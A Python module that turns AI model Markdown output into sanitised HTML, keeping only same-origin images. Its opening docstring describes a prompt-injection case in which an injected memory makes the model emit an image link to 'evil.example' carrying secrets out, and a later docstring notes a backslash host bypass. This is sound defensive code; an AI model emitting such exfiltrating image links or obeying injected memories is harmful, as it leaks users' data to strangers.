"""Model text to safe HTML: Markdown rendered with raw HTML off, then sanitised by nh3.

Two locks on one door: markdown-it escapes any HTML the model writes, and nh3 removes
whatever could still run script (event handlers, javascript: links) from the result.

Images are a request the page makes by itself, so an image from anywhere but this site
would let an injected memory (`![x](https://evil.example/?q=secret)`) send what the model
read to a stranger with no click. Only relative (same-origin) images stay images; any other
becomes a link showing its alt text and URL. The Content-Security-Policy (img-src 'self')
blocks them too; this keeps the page from even trying.
"""

import html
import re
from functools import lru_cache

import nh3
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml

_md = MarkdownIt("commonmark", {"html": False, "linkify": False, "breaks": True}).enable(
    ["table", "strikethrough"]
)

ALLOWED_TAGS = {
    "p", "br", "hr", "strong", "em", "del", "code", "pre", "blockquote",
    "ul", "ol", "li", "a", "h1", "h2", "h3", "h4", "h5", "h6",
    "table", "thead", "tbody", "tr", "th", "td", "img",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "img": {"src", "alt", "title"},
    "code": {"class"},
    "ol": {"start"},
}

_SCHEME = re.compile(r"^[a-z][a-z0-9+.\-]*:", re.IGNORECASE)
_WEB_URL = re.compile(r"^(https?:|//)", re.IGNORECASE)


def is_same_origin(url: str) -> bool:
    """True for a relative URL: the browser resolves it against this site.

    Read as a browser reads it: leading/trailing controls and spaces are dropped, tabs and
    newlines removed, and a backslash counts as a slash (`/\\evil.example` is another host).
    """
    url = re.sub(r"[\t\n\r]", "", url).strip("".join(map(chr, range(0x21))))
    url = url.replace("\\", "/")
    return bool(url) and not url.startswith("//") and not _SCHEME.match(url)


def _image(self, tokens, idx, options, env):
    token = tokens[idx]
    src = token.attrGet("src") or ""
    if is_same_origin(str(src)):
        return self.image(tokens, idx, options, env)
    alt = escapeHtml(self.renderInlineAsText(token.children or [], options, env) or "image")
    if _WEB_URL.match(str(src)):
        shown = escapeHtml(str(src))
        return f'<a href="{shown}">Image: {alt} ({shown})</a>'
    # data: and other schemes: nothing to follow, and the URL itself may be kilobytes long.
    return f"Image not shown: {alt} ({escapeHtml(str(src).split(':', 1)[0])}: URL)"


_md.add_render_rule("image", _image)


def _only_same_origin_images(tag: str, attribute: str, value: str) -> str | None:
    # The second lock: whatever produced an <img>, a remote source never reaches the page.
    if tag == "img" and attribute == "src" and not is_same_origin(value):
        return None
    return value


_cleaner = nh3.Cleaner(
    tags=ALLOWED_TAGS,
    attributes=ALLOWED_ATTRIBUTES,
    attribute_filter=_only_same_origin_images,
    url_schemes={"http", "https", "mailto"},
    link_rel="noopener noreferrer nofollow",
)


def clean_html(html: str) -> str:
    """Only the allowed tags and attributes, no script, no image from another origin."""
    return _cleaner.clean(html)


@lru_cache(maxsize=4096)  # messages are immutable once complete: render each once
def render_markdown(text: str) -> str:
    return clean_html(_md.render(text or ""))


_text_only = nh3.Cleaner(tags=set(), attributes={})


@lru_cache(maxsize=4096)
def plain_text(text: str) -> str:
    """What Markdown reads as, on one line, for places that show plain text (a title):
    `**Plan** a *ski* trip` -> `Plan a ski trip`."""
    # Rendered, every tag removed (their text kept), the entities read back.
    shown = html.unescape(_text_only.clean(_md.render(text or "")))
    return " ".join(shown.split())
